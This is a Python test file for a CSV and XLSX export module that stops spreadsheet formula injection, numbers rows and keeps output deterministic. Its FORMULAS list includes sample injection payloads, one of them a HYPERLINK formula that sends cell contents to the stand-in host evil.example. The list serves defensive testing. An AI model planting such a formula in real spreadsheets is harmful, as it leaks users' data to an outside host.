# SPDX-License-Identifier: Apache-2.0
"""CSV and XLSX for people: whole, numbered, and nothing in them runs."""

from __future__ import annotations

import csv
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from unittest.mock import ANY

import pyarrow as pa
import pytest
from openpyxl import load_workbook

from tieout.audit.spreadsheet import Written, neutralised, numbered, numbered_schema, write_csv, write_xlsx
from tieout.audit.workbook import CUT

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", "  =1", "＝1+1"]
AT = datetime(2026, 3, 5, 14, 30, 0, 123456, UTC)


def rows(*texts: str | None) -> pa.Table:
    count = len(texts)
    return pa.table(
        {
            "text": pa.array(texts, pa.string()),
            "count": pa.array(range(-1, count - 1), pa.int64()),
            "at": pa.array([AT] * count, pa.timestamp("us", tz="UTC")),
        }
    )


def cells(path: Path, column: int = 2) -> list[object]:
    """Return one column of every sheet, headings left out."""
    return [row[column - 1].value for sheet in load_workbook(path) for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_begin_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutralised(text)[0] == "'"
    assert neutralised(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("fix: a = b - c", "fix: a = b - c"),
        ("a@example.com", "a@example.com"),
        ("", ""),
        ("'quoted'", "''quoted'"),  # the first apostrophe is never the text's own
        ("'=1", "''=1"),
        ("a;=1+1;b", "a;'=1+1;b"),  # a program whose list separator is a semicolon begins a cell there
        ("title\n- point", "title\n'- point"),
        ("\ufeff=1", "'\ufeff=1"),
    ],
)
def test_other_text_stays_as_it_is(text: str, expected: str) -> None:
    assert neutralised(text) == expected


def test_csv_is_whole_numbered_and_the_same_each_time(tmp_path: Path) -> None:
    table = rows("a,b", 'say "x"', None, "", *FORMULAS)
    files = []
    for name, batches in (("one.csv", [table]), ("two.csv", [table.slice(0, 3), table.slice(3)])):
        done = write_csv(tmp_path / name, numbered_schema(table.schema), numbered(batches))
        assert done == Written(table.num_rows)
        files.append((tmp_path / name).read_bytes())
    assert files[0] == files[1]
    with (tmp_path / "one.csv").open(newline="") as file:
        said = list(csv.reader(file))
    assert said[0] == ["#", "text", "count", "at"]
    assert said[1] == ["1", "a,b", "-1", "2026-03-05T14:30:00.123456Z"]  # a number stays one, also a negative one
    assert [row[0] for row in said[1:]] == [str(number) for number in range(1, table.num_rows + 1)]
    assert [row[1] for row in said[5:]] == [neutralised(text) for text in FORMULAS]
    assert b'\n3,,1,"' in files[0]
    assert b'\n4,"",2,"' in files[0]  # an empty text is no absent value


def test_headings_are_neutralised_too(tmp_path: Path) -> None:
    table = pa.table({"=cmd": [1]})
    write_csv(tmp_path / "a.csv", table.schema, [table])
    write_xlsx(tmp_path / "a.xlsx", table.schema, [table])
    assert (tmp_path / "a.csv").read_text() == '"\'=cmd"\n1\n'
    assert next(load_workbook(tmp_path / "a.xlsx").active.iter_rows())[0].data_type == "s"


def test_no_cell_of_a_sheet_is_a_formula(tmp_path: Path) -> None:
    table = rows("plain", *FORMULAS)
    write_xlsx(tmp_path / "a.xlsx", numbered_schema(table.schema), numbered([table]))
    sheet = load_workbook(tmp_path / "a.xlsx").active
    read = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in read} == {"s"}
    assert [cell.quotePrefix for cell in read] == [False, *[True] * len(FORMULAS)]
    assert [str(cell.value).replace("_x000D_", "\r") for cell in read] == ["plain", *FORMULAS]
    assert b"<f>" not in zipfile.ZipFile(tmp_path / "a.xlsx").read("xl/worksheets/sheet1.xml")


def test_numbers_and_times_of_a_sheet_are_numbers_and_times(tmp_path: Path) -> None:
    table = rows("x").append_column("day", pa.array([date(2026, 3, 5)])).append_column("yes", pa.array([True]))
    write_xlsx(tmp_path / "a.xlsx", numbered_schema(table.schema), numbered([table]))
    heading, row = ([cell.value for cell in line] for line in load_workbook(tmp_path / "a.xlsx").active.iter_rows())
    assert heading == ["#", "text", "count", "at (UTC)", "day", "yes"]
    assert isinstance(row[4], datetime)
    assert row[4].date() == date(2026, 3, 5)
    assert row == [1, "x", -1, AT.replace(microsecond=123000, tzinfo=None), ANY, True]


def test_what_a_sheet_can_not_hold_exactly_is_text(tmp_path: Path) -> None:
    table = pa.table({"number": [2**60], "ratio": [float("nan")], "day": [date(1899, 12, 31)]})
    write_xlsx(tmp_path / "a.xlsx", table.schema, [table])
    assert [cells(tmp_path / "a.xlsx", column) for column in (1, 2, 3)] == [["1152921504606846976"], ["nan"], ["1899-12-31"]]


def test_control_characters_and_long_texts_lose_nothing_in_silence(tmp_path: Path) -> None:
    table = rows("bell \x07", "_x0041_", "#N/A", "x" * 40_000, "\U0001f600" * 20_000)
    done = write_xlsx(tmp_path / "a.xlsx", table.schema, [table])
    bell, literal, code, long, wide = (str(value) for value in cells(tmp_path / "a.xlsx", 1))
    assert (bell, literal, code) == ("bell _x0007_", "_x005F_x0041_", "#N/A")  # as Excel itself writes them
    assert done.cut == 2
    assert long.endswith(CUT)
    assert len(long) == 32_767
    assert wide.endswith(CUT)
    assert len(wide.encode("utf-16-le")) // 2 <= 32_767


def test_equal_rows_give_equal_workbooks(tmp_path: Path) -> None:
    table = rows("<a & b>", None, "", "two\nlines")
    for name, batches in (("one.xlsx", [table]), ("two.xlsx", table.to_batches(max_chunksize=1))):
        write_xlsx(tmp_path / name, table.schema, batches)
    assert cells(tmp_path / "one.xlsx", 1) == ["<a & b>", None, "", "two\nlines"]
    assert (tmp_path / "one.xlsx").read_bytes() == (tmp_path / "two.xlsx").read_bytes()


def test_more_rows_than_a_sheet_holds_go_on_in_the_next(tmp_path: Path) -> None:
    table = rows(*(f"row {number}" for number in range(1, 8)))
    done = write_xlsx(tmp_path / "a.xlsx", numbered_schema(table.schema), numbered([table]), sheet_rows=4)
    assert done == Written(7, sheets=3)
    assert load_workbook(tmp_path / "a.xlsx").sheetnames == ["rows", "rows 2", "rows 3"]
    assert cells(tmp_path / "a.xlsx", 1) == [1, 2, 3, 4, 5, 6, 7]


def test_no_rows_are_a_heading(tmp_path: Path) -> None:
    table = rows()
    assert write_csv(tmp_path / "a.csv", table.schema, []) == Written(0)
    assert write_xlsx(tmp_path / "a.xlsx", table.schema, []) == Written(0)
    assert (tmp_path / "a.csv").read_text() == '"text","count","at"\n'
    assert cells(tmp_path / "a.xlsx") == []


def test_a_file_is_there_when_it_is_complete(tmp_path: Path) -> None:
    table = rows("x")

    def broken() -> object:
        yield table
        msg = "the store did not answer"
        raise OSError(msg)

    for write in (write_csv, write_xlsx):
        with pytest.raises(OSError, match="did not answer"):
            write(tmp_path / "a", table.schema, broken())
        assert list(tmp_path.iterdir()) == []
